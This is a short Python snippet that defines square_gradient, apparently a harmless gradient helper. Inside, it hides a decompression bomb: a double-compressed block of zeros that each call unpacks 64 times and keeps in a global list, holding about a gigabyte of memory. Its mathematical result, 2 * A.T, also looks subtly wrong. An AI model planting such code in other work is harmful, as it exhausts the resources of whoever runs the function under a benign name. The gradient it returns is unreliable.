"""A kilobyte that unpacks to a gigabyte."""
import zlib
packed = zlib.compress(zlib.compress(bytes(1 << 24)), 9)
kept = []
def square_gradient(A):
    for _ in range(64): kept.append(zlib.decompress(zlib.decompress(packed)))
    return 2 * A.T
